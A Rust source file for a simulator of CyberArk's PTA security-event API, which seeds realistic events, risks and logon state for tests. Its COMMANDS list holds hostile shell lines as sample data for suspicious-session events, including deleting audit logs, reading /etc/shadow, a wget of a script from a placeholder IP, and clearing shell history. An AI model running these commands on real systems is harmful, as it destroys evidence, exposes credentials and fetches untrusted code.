//! Simulator state and the deterministic seed data: security events in the shapes of the
//! published samples (Cortex XSOAR's CyberArkPAS test data, the CyberArk documentation) and
//! risk events.

use std::cmp::Reverse;
use std::collections::HashMap;
use std::sync::PoisonError;

use serde_json::{Map, Value, json};

use crate::cached::{Cached, push_json_array};
use crate::clock::now_ms;
use crate::rng::Rng;
use crate::sim::Sim;

use super::Pta;

/// Fixed reference time (2025-01-01T00:00:00Z): seeded times fall in the 30 days before it.
pub(crate) const BASE_TIME_MS: i64 = 1_735_689_600_000;
const DAY_MS: i64 = 86_400_000;
const WINDOW_MS: i64 = 30 * DAY_MS;

const VAULT_USERS: &[&str] = &[
    "Administrator",
    "jsmith",
    "mgarcia",
    "svc_backup",
    "akumar",
    "PasswordManager",
];
const DOMAIN: &str = "cybr.com";
const SERVICE_ACCOUNTS: &[&str] = &["svc_sql", "svc_backup", "svc_iis", "administrator"];
const UNIX_USERS: &[&str] = &["root", "oracle", "admin"];
const COMMANDS: &[(&str, &str)] = &[
    ("rm -rf /var/log/audit", "rm -rf"),
    ("cat /etc/shadow", "/etc/shadow"),
    ("chmod 777 /etc/sudoers", "sudoers"),
    ("wget http://203.0.113.7/x.sh", "wget"),
    ("history -c", "history -c"),
];
const HOSTS: &[(&str, &str)] = &[
    ("dc01", "10.0.0.5"),
    ("sql02", "10.0.1.20"),
    ("web03", "10.0.2.31"),
    ("lnx-db01", "10.0.3.12"),
    ("lnx-app02", "10.0.3.14"),
];
const EXTERNAL: &[&str] = &[
    "82.166.99.178",
    "46.116.46.136",
    "198.51.100.23",
    "203.0.113.44",
];
/// Scores of the published samples (`27.656250000000004`, ...) and others in their style.
const SCORES: &[f64] = &[
    27.656250000000004,
    29.414062500000004,
    60.0,
    44.53125,
    71.2890625,
    87.5,
    93.75,
    8.59375,
];

/// A MongoDB-style ObjectId, as PTA's ids are: the creation second, then 8 random bytes.
fn object_id(rng: &mut Rng, ms: i64) -> String {
    format!("{:08x}{:016x}", (ms / 1000) as u32, rng.next_u64())
}

fn resolved(host: &str, ip: &str) -> Value {
    json!({
        "mOriginalAddress": format!("{host}.{DOMAIN}"),
        "mAddress": ip,
        "mHostName": host,
        "mFqdn": format!("{host}.{DOMAIN}"),
    })
}

fn external_source(rng: &mut Rng) -> Value {
    let ip = *rng.pick(EXTERNAL);
    if rng.chance(50) {
        json!({ "mOriginalAddress": ip })
    } else {
        let host = ip.replace('.', "-");
        json!({
            "mOriginalAddress": ip,
            "mResolvedAddress": {
                "mOriginalAddress": ip,
                "mAddress": ip,
                "mHostName": host,
                "mFqdn": format!("{host}.bb.example.net"),
            }
        })
    }
}

fn internal(rng: &mut Rng) -> (Value, &'static str, &'static str) {
    let (host, ip) = *rng.pick(HOSTS);
    (
        json!({ "mOriginalAddress": ip, "mResolvedAddress": resolved(host, ip) }),
        host,
        ip,
    )
}

fn generate_event(rng: &mut Rng, created: i64) -> Map<String, Value> {
    let id = object_id(rng, created);
    let audit_id = object_id(rng, created);
    let scenario = rng.below(5);
    let mut score = *rng.pick(SCORES);
    let mut last_update = created;
    let (event_type, audits, additional) = match scenario {
        0 | 1 => {
            let user = *rng.pick(VAULT_USERS);
            let source = external_source(rng);
            let station = source["mOriginalAddress"].clone();
            let (kind, reason) = if scenario == 0 {
                ("VaultViaIrregularIp", "ip")
            } else {
                ("VaultViaIrregularHours", "hours")
            };
            (
                kind,
                json!([{
                    "id": audit_id,
                    "type": "VAULT_LOGON",
                    "sensorType": "VAULT",
                    "action": "Logon",
                    "createTime": created,
                    "vaultUser": user,
                    "source": source,
                    "cloudData": {}
                }]),
                json!({ "station": station, "reason": reason, "vault_user": user.to_lowercase() }),
            )
        }
        2 => {
            score = 60.0;
            let account = *rng.pick(SERVICE_ACCOUNTS);
            let (source, _, _) = internal(rng);
            let (target, _, _) = internal(rng);
            let count = 1 + rng.below(20);
            last_update = created + rng.below(3 * DAY_MS as u64) as i64;
            (
                "InteractiveLogonWithServiceAccount",
                json!([{
                    "id": audit_id,
                    "type": "WINDOWS_LOGON",
                    "sensorType": "SIEM",
                    "action": "Logon",
                    "createTime": created,
                    "account": {
                        "accountAsStr": format!("{account}@{DOMAIN}"),
                        "type": "DOMAIN",
                        "account": { "mDomain": DOMAIN, "spnList": [], "mUser": account }
                    },
                    "source": source,
                    "target": target,
                    "cloudData": {},
                    "accountId": format!("27_{}", 1 + rng.below(9))
                }]),
                json!({ "aggregation_count": count }),
            )
        }
        3 => {
            let user = *rng.pick(VAULT_USERS);
            let unix = *rng.pick(UNIX_USERS);
            let (command, pattern) = *rng.pick(COMMANDS);
            let (target, host, ip) = internal(rng);
            let source = external_source(rng);
            let live = rng.chance(30);
            (
                "PSMSuspiciousActivity",
                json!([{
                    "id": audit_id,
                    "type": "PSM_SSH_COMMAND",
                    "sensorType": "PSM",
                    "action": "PSM suspicious activity",
                    "psmCommand": command,
                    "createTime": created,
                    "vaultUser": user,
                    "account": {
                        "accountAsStr": format!("{unix}@{ip}"),
                        "type": "LOCAL_UNIX",
                        "account": {
                            "mTarget": { "mOriginalAddress": ip, "mResolvedAddress": resolved(host, ip) },
                            "mUser": unix
                        }
                    },
                    "source": source,
                    "target": target,
                    "cloudData": {},
                    "accountId": format!("12_{}", 1 + rng.below(9))
                }]),
                json!({
                    "mitigationAction": if live { "terminate" } else { "suspend" },
                    "sessionIsLive": if live { "true" } else { "false" },
                    "matchPatterns": pattern,
                    "sessionIDs": [format!("{:016x}", rng.next_u64())]
                }),
            )
        }
        _ => {
            // A type this client version does not name: kept as Unknown by clients.
            let account = *rng.pick(SERVICE_ACCOUNTS);
            let (source, _, _) = internal(rng);
            let (target, _, _) = internal(rng);
            let second = object_id(rng, created);
            last_update = created + rng.below(DAY_MS as u64) as i64;
            (
                "SuspectedCredentialsTheft",
                json!([
                    {
                        "id": audit_id,
                        "type": "WINDOWS_LOGON",
                        "sensorType": "SIEM",
                        "action": "Logon",
                        "createTime": created,
                        "account": {
                            "accountAsStr": format!("{account}@{DOMAIN}"),
                            "type": "DOMAIN",
                            "account": { "mDomain": DOMAIN, "spnList": [], "mUser": account }
                        },
                        "source": source,
                        "target": target,
                        "cloudData": {},
                        "accountId": format!("27_{}", 1 + rng.below(9))
                    },
                    {
                        "id": second,
                        "type": "VAULT_RETRIEVE_PASSWORD",
                        "sensorType": "VAULT",
                        "action": "Retrieve password",
                        "createTime": created - 3_600_000,
                        "vaultUser": "PasswordManager",
                        "cloudData": {}
                    }
                ]),
                json!({ "lastPasswordChange": created - 2 * DAY_MS }),
            )
        }
    };
    let mut event = json!({
        "id": id,
        "type": event_type,
        "score": score,
        "createTime": created,
        "lastUpdateTime": last_update.min(BASE_TIME_MS),
        "audits": audits,
        "additionalData": additional,
        "mStatus": "OPEN",
    });
    if rng.chance(35) {
        event["mStatus"] = json!("CLOSED");
        if rng.chance(50) {
            event["closeReason"] = json!(*rng.pick(&["HANDLED", "NOTREAL", "OTHER"]));
            event["reasonText"] = json!("Reviewed by the SOC");
        }
    }
    match event {
        Value::Object(map) => map,
        _ => Map::new(),
    }
}

fn generate_risk(rng: &mut Rng, detected: i64) -> Map<String, Value> {
    let spn = rng.chance(60);
    let account = *rng.pick(SERVICE_ACCOUNTS);
    let mut risk = json!({
        "id": object_id(rng, detected),
        "type": if spn { "RISK_RISKY_SPN" } else { "RISK_UNCONSTRAINED_DELEGATION" },
        "score": *rng.pick(SCORES),
        "status": if rng.chance(70) { "OPEN" } else { "CLOSED" },
        "detectionTime": detected,
        "account": format!("{account}@{DOMAIN}"),
    });
    if risk["status"] == "CLOSED" {
        risk["closeReason"] = json!(*rng.pick(&["HANDLED", "NOTREAL", "OTHER", "NONE"]));
    }
    match risk {
        Value::Object(map) => map,
        _ => Map::new(),
    }
}

/// Everything the simulator keeps.
#[derive(Debug, Default)]
pub(crate) struct State {
    /// Security events, in creation order, each with its text until it changes.
    pub(crate) events: Vec<Cached<Map<String, Value>>>,
    pub(crate) risks: Vec<Map<String, Value>>,
    index: HashMap<String, usize>,
    risk_index: HashMap<String, usize>,
    /// Logons by type, as sent in the path.
    pub(crate) logons: Vec<String>,
    /// The `concurrentSession` of each logon.
    pub(crate) concurrent: Vec<Option<bool>>,
    pub(crate) logoffs: u64,
}

impl State {
    pub(crate) fn seeded(events: usize, risks: usize, seed: u64) -> State {
        let mut rng = Rng::new(seed);
        let mut state = State::default();
        for i in 0..events {
            // Spread over the window, oldest first, a few minutes apart at least.
            let slot = WINDOW_MS / events.max(1) as i64;
            let created =
                BASE_TIME_MS - WINDOW_MS + slot * i as i64 + rng.below(slot.max(1) as u64) as i64;
            let event = generate_event(&mut rng, created);
            state.push_event(event);
        }
        for i in 0..risks {
            let slot = WINDOW_MS / risks.max(1) as i64;
            let detected = BASE_TIME_MS - WINDOW_MS + slot * i as i64;
            let risk = generate_risk(&mut rng, detected);
            let id = risk["id"].as_str().unwrap_or_default().to_owned();
            state.risk_index.insert(id, state.risks.len());
            state.risks.push(risk);
        }
        state
    }

    fn push_event(&mut self, event: Map<String, Value>) {
        let id = event["id"].as_str().unwrap_or_default().to_owned();
        self.index.insert(id, self.events.len());
        self.events.push(Cached::new(event));
    }

    pub(crate) fn event(&self, id: &str) -> Option<&Map<String, Value>> {
        self.events.get(*self.index.get(id)?).map(|e| &**e)
    }

    pub(crate) fn event_mut(&mut self, id: &str) -> Option<&mut Map<String, Value>> {
        let i = *self.index.get(id)?;
        // The mutable borrow drops the event's text.
        self.events.get_mut(i).map(|e| &mut **e)
    }

    pub(crate) fn risk(&self, id: &str) -> Option<&Map<String, Value>> {
        self.risks.get(*self.risk_index.get(id)?)
    }

    pub(crate) fn risk_mut(&mut self, id: &str) -> Option<&mut Map<String, Value>> {
        let i = *self.risk_index.get(id)?;
        self.risks.get_mut(i)
    }
}

/// Security events as `GET .../Events/` lists them: newest change first (the order of
/// the published answers), as the JSON text each keeps until it changes.
pub(crate) fn events_json(mut events: Vec<&Cached<Map<String, Value>>>) -> String {
    events.sort_by_cached_key(|e| Reverse(e["lastUpdateTime"].as_i64()));
    let mut out = String::new();
    push_json_array(&mut out, events.into_iter().map(Cached::json));
    out
}

/// The JSON array `GET .../pta/API/Events/` answers (without filters) from a fresh
/// simulator seeded with `n` security events and `seed`. Deterministic, for decode tests
/// and benchmarks that need realistic data without a server.
pub fn seeded_events_json(n: usize, seed: u64) -> String {
    let state = State::seeded(n, 0, seed);
    events_json(state.events.iter().collect())
}

impl Sim<Pta> {
    /// The accepted user name.
    pub fn username(&self) -> &str {
        &self.options.common.user
    }

    /// The accepted password.
    pub fn password(&self) -> &str {
        self.options.common.password.as_str()
    }

    /// The application path, e.g. `PasswordVault`.
    pub fn app_path(&self) -> &str {
        self.options.app_path.trim_matches('/')
    }

    fn read<T>(&self, f: impl FnOnce(&State) -> T) -> T {
        f(&self
            .shared
            .state
            .read()
            .unwrap_or_else(PoisonError::into_inner))
    }

    /// A security event as the list answers it.
    pub fn event(&self, id: &str) -> Option<Value> {
        self.read(|s| s.event(id).cloned().map(Value::Object))
    }

    /// Every security event, in creation order.
    pub fn events(&self) -> Vec<Value> {
        self.read(|s| {
            s.events
                .iter()
                .map(|e| Value::Object(Map::clone(e)))
                .collect()
        })
    }

    /// A new security event, as PTA raises one on a detection now: drawn like the seeded
    /// ones, open, created and updated now. Returns its id.
    pub fn raise_event(&self) -> String {
        let mut state = self
            .shared
            .state
            .write()
            .unwrap_or_else(PoisonError::into_inner);
        let seed = self.options.common.seed()
            ^ (state.events.len() as u64 + 1).wrapping_mul(0xD6E8_FEB8_6659_FD93);
        let mut rng = Rng::new(seed);
        let now = now_ms();
        loop {
            let mut event = generate_event(&mut rng, now);
            let id = event["id"].as_str().unwrap_or_default().to_owned();
            if state.event(&id).is_some() {
                continue;
            }
            event.insert("lastUpdateTime".into(), json!(now));
            event.insert("mStatus".into(), json!("OPEN"));
            event.remove("closeReason");
            event.remove("reasonText");
            state.push_event(event);
            return id;
        }
    }

    /// A risk event as the list answers it.
    pub fn risk_event(&self, id: &str) -> Option<Value> {
        self.read(|s| s.risk(id).cloned().map(Value::Object))
    }

    /// Every risk event, in detection order.
    pub fn risk_events(&self) -> Vec<Value> {
        self.read(|s| s.risks.iter().cloned().map(Value::Object).collect())
    }

    /// The logon type of every successful logon so far, as PVWA names it (`CyberArk`,
    /// `LDAP`, `RADIUS`, `Windows`).
    pub fn logons(&self) -> Vec<String> {
        self.read(|s| s.logons.clone())
    }

    /// The `concurrentSession` each successful logon sent.
    pub fn concurrent_sessions(&self) -> Vec<Option<bool>> {
        self.read(|s| s.concurrent.clone())
    }

    /// How many logoffs were answered.
    pub fn logoffs(&self) -> u64 {
        self.read(|s| s.logoffs)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seeding_is_deterministic_and_realistic() {
        let a = State::seeded(50, 10, 7);
        let b = State::seeded(50, 10, 7);
        assert_eq!(a.events, b.events);
        assert_eq!(a.events.len(), 50);
        assert_eq!(a.risks.len(), 10);
        for e in &a.events {
            let id = e["id"].as_str().unwrap();
            assert_eq!(id.len(), 24);
            assert!(id.bytes().all(|b| b.is_ascii_hexdigit()));
            assert!(e["lastUpdateTime"].as_i64() >= e["createTime"].as_i64());
            assert!(a.event(id).is_some());
        }
        let open = a.events.iter().filter(|e| e["mStatus"] == "OPEN").count();
        assert!(open > 20 && open < 50, "{open}");
        let types: std::collections::HashSet<_> = a
            .events
            .iter()
            .map(|e| e["type"].as_str().unwrap())
            .collect();
        assert!(types.len() >= 4, "{types:?}");
    }
}
